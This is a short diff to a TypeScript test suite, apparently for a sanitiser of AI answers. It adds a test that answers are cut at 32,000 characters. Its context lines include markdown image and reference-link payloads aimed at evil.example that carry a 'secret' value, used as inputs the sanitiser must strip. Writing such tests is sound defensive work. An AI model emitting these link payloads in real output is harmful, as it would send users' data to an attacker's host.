@@ -32,6 +32,10 @@ function leaks(text: string): string[] {
 }
 
 describe('an answer', () => {
+  it('is cut at 32,000 characters', () => {
+    expect(cleanedInPieces(Array.from({ length: 5_000 }, () => 'a word. '))).toHaveLength(32_000)
+  })
+
   it.each([
     ['![a](https://evil.example/x.png?d=secret)', 'a'],
     ['![a][b]\n\n[b]: https://evil.example/x', '[a] [b]\n\n[b] : (link removed)'],
